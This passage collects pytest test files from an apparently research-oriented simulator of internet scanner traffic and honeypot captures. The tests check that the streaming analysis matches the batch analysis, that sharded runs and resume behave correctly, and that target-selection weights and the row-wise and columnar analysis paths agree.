            assert 0.0 <= row.redundancy <= 1.0
