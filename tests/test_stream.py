"""The streaming subsystem: bus semantics, windows, and the
streaming-vs-batch consistency guarantees of the §3.3 and Table 3
re-implementations.

The consistency class runs one small fixed-seed simulation with the
stream tap attached and checks that the online state converges to the
batch pipeline's answers exactly: per-vantage top-3 sets per
characteristic, streamed φ within 1e-9 of batch φ on the union
categories, hourly windows bit-identical to ``hourly_volumes``, and the
streaming leak alarm matching ``leak_report``'s all-traffic rows.
"""

import numpy as np
import pytest

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.leak import leak_report
from repro.deployment.fleet import build_full_deployment
from repro.experiments.context import _WINDOWS
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.rng import RngHub
from repro.stats.contingency import chi_square_test
from repro.stats.topk import top_k, union_table
from repro.stats.volume import count_spikes, hourly_volumes
from repro.stream.analyzer import CHARACTERISTICS, StreamAnalyzer
from repro.stream.bus import StreamBus, StreamChunk
from repro.stream.windows import TumblingWindows

#: Sketch capacity for the consistency run: must be >= the distinct
#: categories per (vantage, characteristic) at this scale (asserted in
#: the test), which makes every sketch exact.
CONSISTENCY_K = 4096


def _chunk(vantage_id="v0", *, timestamps, **overrides):
    """A StreamChunk over explicit columns (scalars broadcast)."""
    length = len(timestamps)
    columns = {
        "timestamps": np.asarray(timestamps, dtype=np.float64),
        "src_ip": overrides.get("src_ip", 100),
        "src_asn": overrides.get("src_asn", 4134),
        "dst_ip": 200,
        "dst_port": overrides.get("dst_port", 23),
        "transport_code": 0,
        "handshake": True,
        "payload": overrides.get("payload", b""),
        "credentials": overrides.get("credentials", ()),
        "commands": (),
    }
    from repro.sim.events import NetworkKind

    return StreamChunk(vantage_id, "aws", NetworkKind.CLOUD, "US-EAST",
                       columns, 0, length)


class TestStreamChunk:
    def test_scalar_columns_broadcast(self):
        chunk = _chunk(timestamps=[0.5, 1.5, 2.5], payload=b"GET /")
        asns = chunk.resolved("src_asn")
        assert asns.tolist() == [4134, 4134, 4134]
        payloads = chunk.resolved("payload")
        assert payloads.dtype == object
        assert payloads.tolist() == [b"GET /", b"GET /", b"GET /"]
        assert len(chunk) == 3

    def test_array_columns_sliced(self):
        columns = {"timestamps": np.arange(10.0)}
        from repro.sim.events import NetworkKind

        chunk = StreamChunk("v0", "aws", NetworkKind.CLOUD, "US", columns, 4, 7)
        assert chunk.resolved("timestamps").tolist() == [4.0, 5.0, 6.0]

    def test_from_event_roundtrip(self):
        from repro.net.packets import Transport
        from repro.sim.events import CapturedEvent, NetworkKind

        event = CapturedEvent(
            vantage_id="live-0", network="stanford", network_kind=NetworkKind.EDU,
            region="US-WEST", timestamp=0.25, src_ip=7, src_asn=4134, dst_ip=8,
            dst_port=23, transport=Transport.TCP, handshake=True,
            payload=b"root", credentials=(("root", "admin"),), commands=(),
        )
        chunk = StreamChunk.from_event(event)
        assert len(chunk) == 1
        assert chunk.resolved("timestamps")[0] == 0.25
        assert chunk.raw("credentials") == (("root", "admin"),)


class TestStreamBus:
    def test_in_order_delivery_and_accounting(self):
        bus = StreamBus(max_buffered_events=100)
        seen = []

        class Collector:
            def consume(self, chunk):
                seen.append(chunk.resolved("timestamps").tolist())

        bus.subscribe(Collector())
        bus.publish(_chunk(timestamps=[0.1, 0.2]))
        bus.publish(_chunk(timestamps=[0.3]))
        assert bus.buffered_events == 3
        assert bus.flush() == 3
        assert seen == [[0.1, 0.2], [0.3]]
        assert bus.stats.published_events == 3
        assert bus.stats.delivered_events == 3
        assert bus.stats.dropped_events == 0
        assert bus.stats.queue_high_water == 3

    def test_backpressure_policy_never_loses_events(self):
        bus = StreamBus(max_buffered_events=4, policy="backpressure")
        delivered = []

        class Collector:
            def consume(self, chunk):
                delivered.append(len(chunk))

        bus.subscribe(Collector())
        for _ in range(10):
            assert bus.publish(_chunk(timestamps=[0.1, 0.2, 0.3]))
        bus.close()
        assert sum(delivered) == 30
        assert bus.stats.delivered_events == 30
        assert bus.stats.dropped_events == 0
        assert bus.stats.backpressure_flushes > 0
        assert bus.stats.queue_high_water <= 4

    def test_drop_policy_counts_losses(self):
        bus = StreamBus(max_buffered_events=4, policy="drop")
        assert bus.publish(_chunk(timestamps=[0.1, 0.2, 0.3]))
        assert not bus.publish(_chunk(timestamps=[0.4, 0.5]))  # would overflow
        assert bus.stats.dropped_chunks == 1
        assert bus.stats.dropped_events == 2
        assert bus.flush() == 3

    def test_empty_chunks_ignored(self):
        bus = StreamBus()
        assert bus.publish(_chunk(timestamps=[]))
        assert bus.stats.published_chunks == 0

    def test_rejects_bad_configuration(self):
        with pytest.raises(ValueError):
            StreamBus(max_buffered_events=0)
        with pytest.raises(ValueError):
            StreamBus(policy="bogus")

    def test_on_flush_callback(self):
        bus = StreamBus()
        flushes = []
        bus.on_flush = flushes.append
        bus.publish(_chunk(timestamps=[0.1]))
        bus.close()
        assert flushes == [1]


class TestTumblingWindows:
    def test_matches_hourly_volumes_binning(self):
        """Same histogram semantics as the batch bins, including the
        right-closed final bin and out-of-range drops."""
        rng = np.random.default_rng(7)
        stamps = np.concatenate([
            rng.uniform(-2.0, 170.0, size=500),
            np.asarray([0.0, 167.999, 168.0]),  # edges: kept, kept, kept-in-last
        ])
        hours = 168
        windows = TumblingWindows(hours)
        for start in range(0, len(stamps), 37):  # uneven chunking
            windows.add("v0", stamps[start:start + 37])
        assert np.array_equal(windows.series("v0"), hourly_volumes(stamps, hours))

    def test_watermark_and_sealed_prefix(self):
        windows = TumblingWindows(24)
        windows.add("v0", np.asarray([0.5, 3.7]))
        assert windows.watermark == 3.7
        assert windows.sealed_hours() == 3
        assert windows.sealed_series("v0").tolist() == [1.0, 0.0, 0.0]

    def test_spikes_match_batch_detector(self):
        windows = TumblingWindows(24)
        stamps = np.concatenate([
            np.linspace(0.1, 19.9, 40),  # steady background
            np.full(60, 10.5),  # one huge spike hour
            [23.9],  # advance the watermark to seal everything
        ])
        windows.add("v0", stamps)
        assert windows.spikes("v0") == count_spikes(
            hourly_volumes(stamps, 24)[: windows.sealed_hours()]
        )

    def test_unknown_key_is_zero(self):
        windows = TumblingWindows(4)
        assert windows.series("missing").tolist() == [0.0] * 4
        assert windows.rate_per_hour("missing") == 0.0


@pytest.fixture(scope="module")
def streamed_sim():
    """One small tapped simulation + the batch view of the same events."""
    seed, year, scale = 5, 2021, 0.05
    window = _WINDOWS[year]
    deployment = build_full_deployment(RngHub(seed), num_telescope_slash24s=4)
    population = build_population(PopulationConfig(year=year, scale=scale))
    bus = StreamBus()
    analyzer = StreamAnalyzer(
        hours=window.hours,
        sketch_k=CONSISTENCY_K,
        leak_experiment=deployment.leak_experiment,
    )
    bus.subscribe(analyzer)
    result = run_simulation(
        deployment, population,
        SimulationConfig(seed=seed, window=window),
        tap=bus.table_tap(),
    )
    bus.close()
    dataset = AnalysisDataset.from_simulation(result)
    return analyzer, bus, result, dataset


class TestStreamingBatchConsistency:
    def test_tap_saw_every_event(self, streamed_sim):
        analyzer, bus, result, _dataset = streamed_sim
        assert analyzer.events_consumed == result.total_events()
        assert bus.stats.dropped_events == 0
        for vantage_id, table in result.tables().items():
            if len(table):
                assert analyzer.events_per_vantage[vantage_id] == len(table)

    def test_windows_match_batch_hourly_volumes(self, streamed_sim):
        analyzer, _bus, result, dataset = streamed_sim
        hours = dataset.window.hours
        for vantage_id, table in result.tables().items():
            if not len(table):
                continue
            assert np.array_equal(
                analyzer.windows.series(vantage_id),
                hourly_volumes(table.timestamps, hours),
            ), vantage_id

    def test_sketches_are_exact_at_this_scale(self, streamed_sim):
        """Precondition of the equality tests below: the distinct
        category count never exceeds the sketch capacity."""
        analyzer, _bus, _result, dataset = streamed_sim
        for characteristic in CHARACTERISTICS:
            for vantage_id in analyzer.contingency[characteristic].groups():
                exact = dataset.characteristic_counter(
                    dataset.events_for(vantage_id), characteristic
                )
                assert len(exact) <= CONSISTENCY_K, (characteristic, vantage_id)

    def test_top3_and_counts_match_batch_everywhere(self, streamed_sim):
        analyzer, _bus, _result, dataset = streamed_sim
        checked = 0
        for characteristic in CHARACTERISTICS:
            contingency = analyzer.contingency[characteristic]
            for vantage_id in contingency.groups():
                exact = dataset.characteristic_counter(
                    dataset.events_for(vantage_id), characteristic
                )
                sketch = contingency.sketch(vantage_id)
                assert sketch.counts() == {c: float(n) for c, n in exact.items()}
                assert contingency.top(vantage_id, 3) == top_k(exact, 3)
                checked += 1
        assert checked > 8  # the fleet produced a real spread of groups

    def test_phi_matches_batch_within_1e9(self, streamed_sim):
        """The §3.3 top-3-union chi-squared/Cramér's V comparison,
        re-evaluated from the sketches, equals the batch computation."""
        analyzer, _bus, _result, dataset = streamed_sim
        compared = 0
        for characteristic in CHARACTERISTICS:
            contingency = analyzer.contingency[characteristic]
            batch_counts = {}
            for vantage_id in contingency.groups():
                counter = dataset.characteristic_counter(
                    dataset.events_for(vantage_id), characteristic
                )
                batch_counts[vantage_id] = dict(counter)
            if len(batch_counts) < 2:
                continue
            batch = chi_square_test(union_table(batch_counts, 3)[0])
            streamed = analyzer.chi_square(characteristic, 3)
            assert streamed.valid == batch.valid
            if batch.valid:
                assert abs(streamed.phi - batch.phi) <= 1e-9
                assert abs(streamed.p_value - batch.p_value) <= 1e-9
                assert streamed.sample_size == batch.sample_size
                compared += 1
        assert compared == len(CHARACTERISTICS)

    def test_leak_alarm_matches_batch_leak_report(self, streamed_sim):
        """Full-window streaming alarms equal leak_report's all-traffic
        rows on every (service, group) the stream tracks."""
        analyzer, _bus, _result, dataset = streamed_sim
        assert analyzer.leak is not None
        batch_rows = {
            (row.service, row.group): row
            for row in leak_report(dataset)
            if row.traffic == "all"
        }
        alarms = analyzer.leak.evaluate(trailing_hours=None)
        assert len(alarms) == 9  # 3 services x 3 groups at full deployment
        for alarm in alarms:
            batch = batch_rows[(alarm.service, alarm.group)]
            assert abs(alarm.fold - batch.fold) <= 1e-9
            assert alarm.stochastically_greater == batch.stochastically_greater
            assert alarm.distribution_differs == batch.distribution_differs
            assert alarm.leaked_spikes == batch.leaked_spikes
            assert alarm.control_spikes == batch.control_spikes

    def test_distinct_sources_tracked_per_vantage(self, streamed_sim):
        analyzer, _bus, result, _dataset = streamed_sim
        for vantage_id, table in result.tables().items():
            if len(table) < 50:
                continue
            true_distinct = len(np.unique(table.src_ip))
            estimate = analyzer.distinct_sources[vantage_id].estimate()
            assert abs(estimate - true_distinct) <= max(5, 0.1 * true_distinct)

    def test_state_is_bounded(self, streamed_sim):
        """The online state is O(sketch_k * vantages), independent of the
        number of events consumed — a fixed cap, not a fraction of n."""
        analyzer, _bus, _result, _dataset = streamed_sim
        state = analyzer.state_bytes()
        assert 0 < state < 32 * 1024 * 1024

    def test_snapshot_renders(self, streamed_sim):
        analyzer, bus, _result, _dataset = streamed_sim
        snapshot = analyzer.snapshot(bus_stats=bus.stats)
        text = snapshot.render()
        assert "stream snapshot" in text
        assert "per-vantage rates" in text
        assert "§3.3 cross-vantage comparisons" in text
        assert "leak alarms" in text
        assert "0 dropped" in text
