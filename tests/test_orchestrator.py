"""Integration tests for the sharded run orchestrator.

The headline guarantee: an N-shard orchestrated run is **bit-identical**
to the single-process simulation at the same seed — same per-vantage
event columns, same telescope aggregate, same experiment rows.  Plus the
operational layer: checkpoint/resume skips completed shards, failures
are retried a bounded number of times, exhaustion degrades to partial
coverage, and the experiment scheduler serves unchanged results from its
content-addressed cache.
"""

from __future__ import annotations

import json

import numpy as np
import pytest

from repro.experiments import ALL_EXPERIMENTS
from repro.experiments.context import ExperimentConfig
from repro.runner import orchestrate, run_experiments
from repro.runner.worker import FAILPOINTS_FILE
from tests.conftest import SMALL

#: A tiny configuration for the operational (resume/retry) tests.
TINY = ExperimentConfig(year=2021, scale=0.05, telescope_slash24s=4, seed=5)


def _assert_results_identical(merged, single) -> None:
    assert merged.total_events() == single.total_events()
    assert set(merged.captures) == set(single.captures)
    for vantage_id, single_capture in single.captures.items():
        merged_table = merged.captures[vantage_id].table
        single_table = single_capture.table
        assert len(merged_table) == len(single_table), vantage_id
        np.testing.assert_array_equal(merged_table.timestamps, single_table.timestamps)
        np.testing.assert_array_equal(merged_table.src_ip, single_table.src_ip)
        np.testing.assert_array_equal(merged_table.src_asn, single_table.src_asn)
        np.testing.assert_array_equal(merged_table.dst_ip, single_table.dst_ip)
        np.testing.assert_array_equal(merged_table.dst_port, single_table.dst_port)
        np.testing.assert_array_equal(merged_table.handshake, single_table.handshake)
        assert list(merged_table.payloads) == list(single_table.payloads), vantage_id
        assert list(merged_table.credentials) == list(single_table.credentials)
        assert list(merged_table.commands) == list(single_table.commands)
    assert merged.telescope.port_src_hits == single.telescope.port_src_hits
    assert merged.telescope.asn_of_src == single.telescope.asn_of_src
    for port in single.telescope.ports():
        np.testing.assert_array_equal(
            merged.telescope.unique_sources_per_destination(port),
            single.telescope.unique_sources_per_destination(port),
        )


class TestShardCountInvariance:
    """Scale 0.25, fixed seed: 1-, 2-, and 4-shard runs == single-process."""

    @pytest.mark.parametrize("num_shards", [1, 2, 4])
    def test_merged_dataset_matches_single_process(
        self, tmp_path, small_context, num_shards
    ):
        run = orchestrate(
            SMALL,
            workers=2,
            out_dir=tmp_path / f"shards-{num_shards}",
            num_shards=num_shards,
            quiet=True,
        )
        assert not run.partial
        assert run.stats.simulated == num_shards
        _assert_results_identical(run.context.result, small_context.result)

        t8_merged = ALL_EXPERIMENTS["T8"](run.context)
        t8_single = ALL_EXPERIMENTS["T8"](small_context)
        assert t8_merged.text == t8_single.text
        assert t8_merged.data == t8_single.data


class TestResume:
    def test_resume_skips_finished_shards(self, tmp_path):
        out_dir = tmp_path / "resume"
        first = orchestrate(TINY, workers=2, out_dir=out_dir, num_shards=4, quiet=True)
        assert first.stats.simulated == 4

        # Simulate a mid-run kill: one shard never wrote its manifest.
        (out_dir / "shard-0002" / "manifest.json").unlink()
        untouched_before = (out_dir / "shard-0000" / "columns.npz").stat().st_mtime_ns

        second = orchestrate(
            TINY, workers=2, out_dir=out_dir, num_shards=4, resume=True, quiet=True
        )
        assert second.stats.skipped == 3
        assert second.stats.simulated == 1
        assert not second.partial
        assert second.context.result.total_events() == first.context.result.total_events()
        # Finished shards were not re-simulated.
        untouched_after = (out_dir / "shard-0000" / "columns.npz").stat().st_mtime_ns
        assert untouched_after == untouched_before

    def test_resume_rejects_stale_configuration(self, tmp_path):
        out_dir = tmp_path / "stale"
        orchestrate(TINY, workers=1, out_dir=out_dir, num_shards=2, quiet=True)
        other = ExperimentConfig(year=2021, scale=0.05, telescope_slash24s=4, seed=6)
        rerun = orchestrate(
            other, workers=1, out_dir=out_dir, num_shards=2, resume=True, quiet=True
        )
        # Different seed → different digest → nothing can be skipped.
        assert rerun.stats.skipped == 0
        assert rerun.stats.simulated == 2


class TestRetriesAndDegradation:
    def test_transient_failure_is_retried(self, tmp_path):
        out_dir = tmp_path / "retry"
        out_dir.mkdir()
        (out_dir / FAILPOINTS_FILE).write_text(json.dumps({"0": 1}))
        run = orchestrate(
            TINY, workers=2, out_dir=out_dir, num_shards=2, max_retries=2, quiet=True
        )
        assert run.stats.retries >= 1
        assert not run.partial
        assert run.stats.simulated == 2

    def test_exhausted_retries_degrade_to_partial_coverage(self, tmp_path):
        out_dir = tmp_path / "degrade"
        out_dir.mkdir()
        (out_dir / FAILPOINTS_FILE).write_text(json.dumps({"1": 99}))
        run = orchestrate(
            TINY, workers=2, out_dir=out_dir, num_shards=2, max_retries=1, quiet=True
        )
        assert run.partial
        assert set(run.failures) == {1}
        assert run.coverage() == 0.5
        # The merged (partial) dataset is still analyzable.
        assert run.context.result.total_events() > 0
        output = ALL_EXPERIMENTS["T8"](run.context)
        assert output.text
        run_record = json.loads((out_dir / "run.json").read_text())
        assert run_record["shards"]["1"]["status"] == "failed"
        assert run_record["coverage"] == 0.5


class TestScheduler:
    def test_cache_hits_after_first_run(self, tmp_path):
        out_dir = tmp_path / "sched"
        run = orchestrate(TINY, workers=1, out_dir=out_dir, num_shards=1, quiet=True)
        cache_dir = out_dir / "cache"
        first = run_experiments(
            run.context, run.dataset_digest, ["T8", "M1"], cache_dir=cache_dir
        )
        assert [item.cached for item in first] == [False, False]
        second = run_experiments(
            run.context, run.dataset_digest, ["T8", "M1"], cache_dir=cache_dir
        )
        assert [item.cached for item in second] == [True, True]
        for fresh, cached in zip(first, second):
            assert fresh.output.text == cached.output.text
            assert fresh.output.data == cached.output.data

    def test_cache_keyed_on_dataset_digest(self, tmp_path):
        out_dir = tmp_path / "sched-key"
        run = orchestrate(TINY, workers=1, out_dir=out_dir, num_shards=1, quiet=True)
        cache_dir = out_dir / "cache"
        run_experiments(run.context, run.dataset_digest, ["T8"], cache_dir=cache_dir)
        rerun = run_experiments(
            run.context, "a-different-dataset", ["T8"], cache_dir=cache_dir
        )
        assert [item.cached for item in rerun] == [False]

    def test_unknown_experiment_rejected(self, tmp_path):
        run = orchestrate(
            TINY, workers=1, out_dir=tmp_path / "sched-bad", num_shards=1, quiet=True
        )
        with pytest.raises(ValueError, match="unknown experiments"):
            run_experiments(run.context, run.dataset_digest, ["T99"])
