"""Tests for target-selection strategies."""

import numpy as np
import pytest

from repro.net.addresses import ip_to_int
from repro.scanners.strategies import (
    KIND_INDEX,
    CoverageModel,
    StructureBias,
    TargetSet,
    TargetStrategy,
)
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub


def make_targets(ips, kinds=None, regions=None, continents=None, networks=None):
    n = len(ips)
    kinds = kinds or [NetworkKind.CLOUD] * n
    return TargetSet(
        ips=np.asarray(ips, dtype=np.uint32),
        kind_codes=np.asarray([KIND_INDEX[k] for k in kinds], dtype=np.int8),
        regions=np.asarray(regions or ["US-CA"] * n, dtype=object),
        continents=np.asarray(continents or ["NA"] * n, dtype=object),
        networks=np.asarray(networks or ["aws"] * n, dtype=object),
    )


HUB = RngHub(11)


class TestTargetSet:
    def test_misaligned_arrays_rejected(self):
        with pytest.raises(ValueError):
            TargetSet(
                ips=np.zeros(3, dtype=np.uint32),
                kind_codes=np.zeros(2, dtype=np.int8),
                regions=np.asarray(["a"] * 3, dtype=object),
                continents=np.asarray(["a"] * 3, dtype=object),
                networks=np.asarray(["a"] * 3, dtype=object),
            )

    def test_len(self):
        assert len(make_targets([1, 2, 3])) == 3


class TestStructureBias:
    def test_identity(self):
        bias = StructureBias()
        assert bias.is_identity
        ips = np.asarray([ip_to_int("1.2.3.255")], dtype=np.uint32)
        assert bias.weights(ips)[0] == 1.0

    def test_any_255_avoidance(self):
        bias = StructureBias(any_255_factor=1 / 9)
        ips = np.asarray(
            [ip_to_int("10.255.0.1"), ip_to_int("10.0.0.1")], dtype=np.uint32
        )
        weights = bias.weights(ips)
        assert weights[0] == pytest.approx(1 / 9)
        assert weights[1] == 1.0

    def test_factors_compose(self):
        bias = StructureBias(any_255_factor=0.5, trailing_255_factor=0.5)
        ips = np.asarray([ip_to_int("10.0.0.255")], dtype=np.uint32)
        assert bias.weights(ips)[0] == pytest.approx(0.25)

    def test_slash16_preference(self):
        bias = StructureBias(slash16_first_factor=10.0)
        ips = np.asarray([ip_to_int("10.20.0.0"), ip_to_int("10.20.0.1")], dtype=np.uint32)
        weights = bias.weights(ips)
        assert weights[0] == 10.0 and weights[1] == 1.0


class TestCoverageModel:
    def test_validation(self):
        with pytest.raises(ValueError):
            CoverageModel(0.0)
        with pytest.raises(ValueError):
            CoverageModel(0.5, mode="swirl")
        with pytest.raises(ValueError):
            CoverageModel(0.5, mode="blocks", block_bits=0)

    def test_full_coverage(self):
        mask = CoverageModel(1.0).mask(HUB, "t", np.arange(10, dtype=np.uint32))
        assert mask.all()

    def test_hash_coverage_fraction(self):
        mask = CoverageModel(0.3).mask(HUB, "t", np.arange(20000, dtype=np.uint32))
        assert 0.25 < mask.mean() < 0.35

    def test_block_coverage_is_blockwise(self):
        """All addresses in the same /16 share one coverage decision."""
        base = ip_to_int("10.1.0.0")
        ips = np.arange(base, base + 2048, dtype=np.uint32)  # one /16 slice
        mask = CoverageModel(0.5, mode="blocks", block_bits=16).mask(HUB, "t", ips)
        assert mask.all() or not mask.any()

    def test_block_coverage_varies_across_blocks(self):
        bases = [ip_to_int(f"10.{i}.0.0") for i in range(64)]
        ips = np.asarray(bases, dtype=np.uint32)
        mask = CoverageModel(0.5, mode="blocks", block_bits=16).mask(HUB, "t", ips)
        assert 0 < mask.sum() < 64


class TestTargetStrategy:
    def test_default_uniform(self):
        targets = make_targets([1, 2, 3])
        weights = TargetStrategy().weights(HUB, "s", targets)
        assert (weights == 1.0).all()

    def test_kind_weights_zero_out_telescope(self):
        targets = make_targets([1, 2], kinds=[NetworkKind.CLOUD, NetworkKind.TELESCOPE])
        strategy = TargetStrategy(kind_weights={NetworkKind.TELESCOPE: 0.0})
        weights = strategy.weights(HUB, "s", targets)
        assert weights[0] == 1.0 and weights[1] == 0.0

    def test_region_weights(self):
        targets = make_targets([1, 2], regions=["AP-SG", "US-CA"])
        strategy = TargetStrategy(region_weights={"AP-SG": 4.0})
        weights = strategy.weights(HUB, "s", targets)
        assert weights[0] == 4.0 and weights[1] == 1.0

    def test_continent_weights(self):
        targets = make_targets([1, 2], continents=["AP", "NA"])
        strategy = TargetStrategy(continent_weights={"NA": 0.1})
        weights = strategy.weights(HUB, "s", targets)
        assert weights[0] == 1.0 and weights[1] == pytest.approx(0.1)

    def test_exclusive_regions(self):
        targets = make_targets([1, 2, 3], regions=["AP-IN", "US-CA", "EU-DE"])
        strategy = TargetStrategy(exclusive_regions=("AP-IN",))
        weights = strategy.weights(HUB, "s", targets)
        assert weights.tolist() == [1.0, 0.0, 0.0]

    def test_exclusive_networks(self):
        targets = make_targets([1, 2], networks=["hurricane", "aws"])
        strategy = TargetStrategy(exclusive_networks=("hurricane",))
        weights = strategy.weights(HUB, "s", targets)
        assert weights.tolist() == [1.0, 0.0]

    def test_latch_exclusive_selects_exactly_k(self):
        targets = make_targets(list(range(100, 200)))
        strategy = TargetStrategy(latch_count=3, latch_multiplier=50.0, latch_exclusive=True)
        weights = strategy.weights(HUB, "s", targets)
        assert (weights > 0).sum() == 3
        assert set(np.unique(weights[weights > 0])) == {50.0}

    def test_latch_boost_keeps_rest(self):
        targets = make_targets(list(range(100, 150)))
        strategy = TargetStrategy(latch_count=1, latch_multiplier=10.0)
        weights = strategy.weights(HUB, "s", targets)
        assert (weights == 10.0).sum() == 1
        assert (weights == 1.0).sum() == 49

    def test_latch_deterministic_per_scanner(self):
        targets = make_targets(list(range(100, 200)))
        strategy = TargetStrategy(latch_count=1, latch_multiplier=10.0, latch_exclusive=True)
        first = strategy.weights(HUB, "scanner-a", targets)
        second = strategy.weights(HUB, "scanner-a", targets)
        assert (first == second).all()

    def test_latch_differs_between_scanners(self):
        targets = make_targets(list(range(100, 400)))
        strategy = TargetStrategy(latch_count=1, latch_multiplier=10.0, latch_exclusive=True)
        picks = {
            int(np.flatnonzero(strategy.weights(HUB, f"scanner-{i}", targets))[0])
            for i in range(12)
        }
        assert len(picks) > 1

    def test_latch_respects_exclusions(self):
        """A latch target is only chosen among otherwise-eligible IPs."""
        targets = make_targets([1, 2, 3, 4], networks=["aws", "aws", "hurricane", "hurricane"])
        strategy = TargetStrategy(
            exclusive_networks=("hurricane",), latch_count=1,
            latch_multiplier=5.0, latch_exclusive=True,
        )
        weights = strategy.weights(HUB, "s", targets)
        assert weights[:2].sum() == 0
        assert (weights[2:] > 0).sum() == 1

    def test_weights_compose_multiplicatively(self):
        targets = make_targets(
            [ip_to_int("10.0.0.255")], kinds=[NetworkKind.EDU], regions=["AP-SG"],
            continents=["AP"], networks=["stanford"],
        )
        strategy = TargetStrategy(
            kind_weights={NetworkKind.EDU: 2.0},
            region_weights={"AP-SG": 3.0},
            continent_weights={"AP": 0.5},
            structure=StructureBias(trailing_255_factor=0.1),
        )
        weights = strategy.weights(HUB, "s", targets)
        assert weights[0] == pytest.approx(2.0 * 3.0 * 0.5 * 0.1)
