"""Batch and scalar emission modes must produce identical datasets.

The simulator has two emission paths sharing one RNG-draw order: the
vectorized batch path (``SimulationConfig(emission="batch")``, the
default) and the scalar per-session path (``emission="scalar"``).  The
whole point of the documented draw order is that the same seed yields
bit-identical captures either way — across every capture-stack policy
(GreyNoise with and without Cowrie ports, Honeytrap, the leak
experiment's interactive honeypots, the telescope aggregate) and through
the downstream analyses.
"""

from __future__ import annotations

import numpy as np
import pytest

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.timeseries import hourly_matrix
from repro.deployment.fleet import build_full_deployment
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub

SCALE = 0.05
TELESCOPE_SLASH24S = 4
SEED = 5


def _simulate(emission: str):
    deployment = build_full_deployment(RngHub(1), num_telescope_slash24s=TELESCOPE_SLASH24S)
    population = build_population(PopulationConfig(year=2021, scale=SCALE))
    return run_simulation(
        deployment, population, SimulationConfig(seed=SEED, emission=emission)
    )


@pytest.fixture(scope="module")
def batch_result():
    return _simulate("batch")


@pytest.fixture(scope="module")
def scalar_result():
    return _simulate("scalar")


def test_emission_mode_validated():
    with pytest.raises(ValueError):
        SimulationConfig(seed=1, emission="rowwise")


def test_total_events_match(batch_result, scalar_result):
    assert batch_result.total_events() > 0
    assert batch_result.total_events() == scalar_result.total_events()


def test_events_identical_per_vantage(batch_result, scalar_result):
    assert set(batch_result.captures) == set(scalar_result.captures)
    for vantage_id, batch_capture in batch_result.captures.items():
        scalar_capture = scalar_result.captures[vantage_id]
        assert batch_capture.events == scalar_capture.events, vantage_id


def test_all_stack_policies_exercised(batch_result):
    """The fixture deployment must cover every batch capture policy."""
    stacks = {
        type(capture.vantage.stack).__name__
        for capture in batch_result.captures.values()
        if len(capture)
    }
    assert {"GreyNoiseStack", "HoneytrapStack"} <= stacks
    # Cowrie and non-Cowrie GreyNoise ports both saw traffic.
    ports = set()
    for capture in batch_result.captures.values():
        if type(capture.vantage.stack).__name__ == "GreyNoiseStack":
            ports.update(np.unique(capture.table.dst_port).tolist())
    assert ports & {22, 23, 2222, 2323}
    assert ports - {22, 23, 2222, 2323}


def test_telescope_aggregate_matches(batch_result, scalar_result):
    batch_telescope = batch_result.telescope
    scalar_telescope = scalar_result.telescope
    assert batch_telescope is not None and scalar_telescope is not None
    assert batch_telescope.port_src_hits == scalar_telescope.port_src_hits
    assert batch_telescope.asn_of_src == scalar_telescope.asn_of_src
    for port in batch_telescope.ports():
        np.testing.assert_array_equal(
            batch_telescope.unique_sources_per_destination(port),
            scalar_telescope.unique_sources_per_destination(port),
        )


def test_analysis_outputs_match(batch_result, scalar_result):
    batch_dataset = AnalysisDataset.from_simulation(batch_result)
    scalar_dataset = AnalysisDataset.from_simulation(scalar_result)
    for port in (22, 23, 80, 443):
        for kind in (NetworkKind.CLOUD, NetworkKind.EDU):
            assert batch_dataset.sources_on_port(port, kind) == (
                scalar_dataset.sources_on_port(port, kind)
            ), (port, kind)
    for port in (22, 80):
        assert batch_dataset.malicious_sources_on_port(port, NetworkKind.CLOUD) == (
            scalar_dataset.malicious_sources_on_port(port, NetworkKind.CLOUD)
        ), port
    vantage_ids = sorted(batch_result.captures)[:8]
    np.testing.assert_array_equal(
        hourly_matrix(batch_dataset, vantage_ids),
        hourly_matrix(scalar_dataset, vantage_ids),
    )
