"""Columnar contingency engine == row-wise analyses, bit for bit.

The engine pre-aggregates per-(vantage × characteristic) count matrices
and per-source behavior tables in one pass over the event tables; every
pairwise-comparison analysis then slices those matrices instead of
re-scanning events.  These tests pin the only contract that makes that
refactor safe: at a fixed seed, the engine-backed fast paths produce
*exactly* the same outputs — same values, same float bits, same dict
ordering — as the legacy row-wise paths they replace.

The row-wise paths stay reachable: a dataset constructed from bare event
lists (no tables) has no engine, so building a "row twin" of the shared
fixture exercises legacy code against the same events.
"""

from __future__ import annotations

import numpy as np
import pytest

from repro.analysis.campaigns import infer_campaigns
from repro.analysis.commands import command_summary
from repro.analysis.dataset import AnalysisDataset
from repro.analysis.geography import (
    build_region_profiles,
    geo_similarity,
    most_different_regions,
)
from repro.analysis.leak import leak_report, unique_credentials_per_group
from repro.analysis.neighborhoods import neighborhood_report
from repro.analysis.networks import network_type_report, telescope_as_report
from repro.analysis.tags import tag_distribution, tag_sources


def _row_twin(dataset: AnalysisDataset) -> AnalysisDataset:
    """The same events with no tables: forces every legacy row path."""
    return AnalysisDataset(
        events=dataset.events,
        vantages=dataset.vantages,
        window=dataset.window,
        telescope=dataset.telescope,
        leak_experiment=dataset.leak_experiment,
    )


@pytest.fixture(scope="module")
def row_dataset(dataset):
    return _row_twin(dataset)


@pytest.fixture(scope="module")
def dataset_2020(small_context_2020):
    return small_context_2020.dataset


@pytest.fixture(scope="module")
def row_dataset_2020(dataset_2020):
    return _row_twin(dataset_2020)


class TestEngineAvailability:
    def test_table_backed_dataset_builds_and_caches_engine(self, dataset):
        engine = dataset.contingency()
        assert engine is not None
        assert dataset.contingency() is engine  # cached, not rebuilt
        aggregates = dataset.source_aggregates()
        assert aggregates is not None
        assert dataset.source_aggregates() is aggregates

    def test_row_backed_dataset_has_no_engine(self, row_dataset):
        assert row_dataset.tables is None
        assert row_dataset.contingency() is None
        assert row_dataset.source_aggregates() is None


class TestNeighborhoodParity:
    def test_default_report(self, dataset, row_dataset):
        assert neighborhood_report(dataset) == neighborhood_report(row_dataset)

    @pytest.mark.parametrize("kwargs", [
        {"k": 1},
        {"k": 5},
        {"alpha": 0.01},
        {"bonferroni": False},
        {"max_honeypots_per_neighborhood": 2},
    ])
    def test_parameter_variants(self, dataset, row_dataset, kwargs):
        assert neighborhood_report(dataset, **kwargs) == neighborhood_report(
